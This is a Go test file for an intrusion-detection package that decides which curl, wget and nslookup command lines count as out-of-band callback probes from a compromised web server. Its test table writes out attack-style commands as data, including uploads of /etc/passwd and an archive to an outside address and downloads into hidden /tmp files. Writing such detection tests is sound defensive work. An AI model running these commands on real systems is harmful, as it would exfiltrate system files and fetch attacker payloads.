package detect

import (
	"strings"
	"testing"
)

func TestCallbackProbe(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want bool
	}{
		{"/usr/bin/curl -s -m 3 http://203.0.113.9:8462/c?h=web1", true},
		{"curl http://x.oast.example/", true},
		{"curl -s -o /tmp/.x http://203.0.113.9/x", false},     // keeps a file
		{"curl -sO http://203.0.113.9/x", false},               // remote name: keeps a file
		{"curl -d @/etc/passwd http://203.0.113.9/", false},    // sends data
		{"curl --data-binary @- http://203.0.113.9/", false},   // sends data
		{"curl -T /tmp/a.tgz ftp://203.0.113.9/", false},       // uploads
		{"curl -K /tmp/cfg", false},                            // no URL: reads a config
		{"wget http://203.0.113.9/x", false},                   // wget saves what it fetches
		{"wget -q -O - http://203.0.113.9/c", true},            // printed
		{"wget -qO- http://203.0.113.9/c", true},               // printed
		{"wget --spider http://203.0.113.9/c", true},           // checked
		{"wget --post-file=/etc/passwd -O - http://x/", false}, // sends data
		{"nslookup web1.x.oast.example", true},                 // a name: answered by its zone's owner
		{"dig +short 203.0.113.9", false},                      // an address
		{"ping -c 1 -W 1 127.0.0.1", false},                    // a network tool's own feature as often
		{"/usr/bin/convert /srv/a.png -resize 100x /tmp/b.png", false},
	} {
		if got := callbackProbe(strings.Fields(c.cmd)); got != c.want {
			t.Errorf("callbackProbe(%q) = %v, want %v", c.cmd, got, c.want)
		}
	}
}

// TestCallbackPlaced: the web server's own child (no shell) calling out
// with nothing kept is the door tried (stage 1); the same call after a
// script landed in the served tree is the web shell's use, placed by what
// it does.
func TestCallbackPlaced(t *testing.T) {
	e, s := webShellScene(t)
	fs := e.Observe(s.exec(220, 200, 33, "www-data", "/var/www", "/usr/bin/curl", "/usr/bin/curl", "-s", "-m", "3", "http://203.0.113.9:8462/c?h=web1"), s.tree)
	var f *Finding
	for _, x := range fs {
		if x.Stage == StageInitialAccess {
			f = x
		}
	}
	if f == nil {
		t.Fatalf("the server's own curl that keeps nothing: %v, want a finding on stage 1", ids(fs))
	}
	fs = e.Observe(s.exec(221, 200, 33, "www-data", "/var/www", "/usr/bin/curl", "/usr/bin/curl", "-s", "-o", "/tmp/.x", "http://203.0.113.9:8462/x"), s.tree)
	for _, x := range fs {
		if x.Stage == StageInitialAccess {
			t.Errorf("a download into /tmp placed as a probe: %s", x.Title)
		}
	}
}
